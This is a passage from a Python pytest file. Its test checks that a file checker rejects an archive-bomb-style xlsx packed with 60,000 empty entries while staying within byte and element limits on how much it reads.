                {}, {"xlsx": SPREADSHEET}, {"a.xlsx": packed({f"{n}": b"" for n in range(60_000)})}
            ),
            id="list within",
        ),
    ],
)
def test_the_work_of_checking_is_bounded(name: str, bomb, monkeypatch) -> None:
    """However much is packed, no more is read than is allowed, but for the piece that passes it."""
    allowances: list[Allowance] = []
    begin = Allowance.__init__
    monkeypatch.setattr(
        Allowance, "__init__", lambda self: (begin(self), allowances.append(self))[0]
    )

    with pytest.raises(UnsupportedFile):
        check(name, bomb())

    assert all(one.bytes >= -CHUNK and one.elements >= -1 for one in allowances)
